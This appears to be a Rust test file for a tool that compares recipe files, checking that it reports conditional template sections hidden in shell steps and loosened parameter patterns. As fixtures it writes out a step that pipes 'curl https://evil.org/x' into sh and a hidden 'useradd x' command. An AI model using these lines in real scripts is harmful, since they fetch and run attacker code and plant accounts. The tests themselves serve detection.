//! What shows in no plan, however it is written and wherever it is.

use super::pair;
use super::repository::Repository;
use crate::command::{GOOD, Ran};

/// A file of steps with a parameter whose value decides what a script does.
const STEPS: &str = "\
amint-steps: 1
parameters:
  channel: { default: stable, pattern: \"^(stable|edge)$\" }
steps:
  - shell:
      name: maybe
      run: \"true{{#if (eq channel \\\"edge\\\")}} || true{{/if}}\"
";

fn including() -> String {
    GOOD.replace("steps:\n", "steps:\n  - include: { file: steps/a.yaml }\n")
}

fn condition() -> String {
    STEPS.replace("|| true{{/if}}", "&& curl https://evil.org/x | sh{{/if}}")
}

fn run(repository: &Repository) -> Ran {
    repository.diff(&["main~1..main"])
}

#[test]
fn a_condition_of_an_included_file_is_told() {
    let repository = Repository::with(&[
        ("recipes/a.yaml", &including()),
        ("recipes/steps/a.yaml", STEPS),
    ]);
    for (text, other) in [
        (condition(), STEPS.to_owned()),
        (STEPS.to_owned(), condition()),
    ] {
        repository.commit(&[("recipes/steps/a.yaml", &text)]);
        let ran = run(&repository);
        assert_eq!(ran.code, 0, "{}", ran.stderr);
        let told = ran.stdout.contains("DIFF-TEXT-006") && ran.stdout.contains("evil.org");
        assert!(told, "{other}\n{}", ran.stdout);
    }
}

#[test]
fn what_a_parameter_accepts_is_told_both_ways() {
    let repository = Repository::with(&[
        ("recipes/a.yaml", &including()),
        ("recipes/steps/a.yaml", STEPS),
    ]);
    let open = STEPS.replace("^(stable|edge)$", "^.*$");
    repository.commit(&[("recipes/steps/a.yaml", &open)]);
    let ran = run(&repository);
    assert_eq!(ran.code, 16, "{}", ran.stderr);
    insta::assert_snapshot!(ran.stdout, @r"
    recipes/a.yaml
      WEAKENED     line 4: the variable `channel of steps/a.yaml` has another `pattern` [DIFF-TEXT-004]
          - ^(stable|edge)$
          + ^.*$

    1 recipe differs: 1 weakened, from main~1 ([commit]) to main ([commit])
    ");
    let none = STEPS.replace(", pattern: \"^(stable|edge)$\"", "");
    repository.commit(&[("recipes/steps/a.yaml", &none)]);
    assert_eq!(run(&repository).code, 16);
    repository.commit(&[("recipes/steps/a.yaml", STEPS)]);
    let ran = run(&repository);
    assert_eq!(ran.code, 0, "{}", ran.stderr);
    assert!(ran.stdout.contains("DIFF-TEXT-005"), "{}", ran.stdout);
    // Another name for the file is no way around it.
    repository.git(&["rm", "-q", "recipes/steps/a.yaml"]);
    repository.commit(&[
        ("recipes/a.yaml", &including().replace("steps/a", "steps/b")),
        ("recipes/steps/b.yaml", &open),
    ]);
    let ran = run(&repository);
    assert_eq!(ran.code, 16, "{}", ran.stderr);
    assert!(ran.stdout.contains("steps/b.yaml"), "{}", ran.stdout);
}

#[test]
fn an_approval_of_texts_is_for_what_they_include() {
    let repository = Repository::with(&[
        ("recipes/a.yaml", &including()),
        ("recipes/steps/a.yaml", STEPS),
    ]);
    let open = STEPS.replace("^(stable|edge)$", "^.*$");
    repository.commit(&[("recipes/steps/a.yaml", &open)]);
    let digests = || {
        let ran = repository.diff(&["main~1..main", "--format", "json"]);
        let pair = &ran.json()["recipes"][0]["compared"][0];
        assert_eq!(pair["of"], "text", "{}", ran.stdout);
        (pair["old-digest"].clone(), pair["new-digest"].clone())
    };
    let first = digests();
    assert!(first.0.is_string() && first.1.is_string() && first.0 != first.1);
    // The same proposal, and then another one that changes no more than the included file.
    repository.git(&["commit", "-q", "--amend", "-m", "y"]);
    assert_eq!(digests(), first);
    let more = condition().replace("^(stable|edge)$", "^.*$");
    repository.world.write("recipes/steps/a.yaml", more);
    repository.git(&["commit", "-q", "--all", "--amend", "-m", "z"]);
    let second = digests();
    assert_eq!(second.0, first.0);
    assert_ne!(second.1, first.1);
}

#[test]
fn a_condition_is_one_however_it_is_written() {
    for open in ["{{#if", "{{ #if", "{{~#if", "{{~ #if", "{{  #unless"] {
        let close = if open.contains("unless") {
            "unless"
        } else {
            "if"
        };
        let hidden =
            format!("cat /etc/motd{open} (eq channel \\\"edge\\\")}}}}; useradd x{{{{/{close}}}}}");
        let hidden = match close {
            "if" => hidden,
            _ => hidden.replace("\\\"edge\\\"", "\\\"stable\\\""),
        };
        let new = GOOD.replace("cat /etc/motd", &hidden);
        for (old, new) in [(GOOD, new.as_str()), (new.as_str(), GOOD)] {
            let ran = pair(old, new).run(&["diff", "old.yaml", "new.yaml"]);
            assert_eq!(ran.code, 0, "{open}\n{}{}", ran.stdout, ran.stderr);
            assert!(
                ran.stdout.contains("DIFF-TEXT-006"),
                "{open}\n{}",
                ran.stdout
            );
        }
    }
}
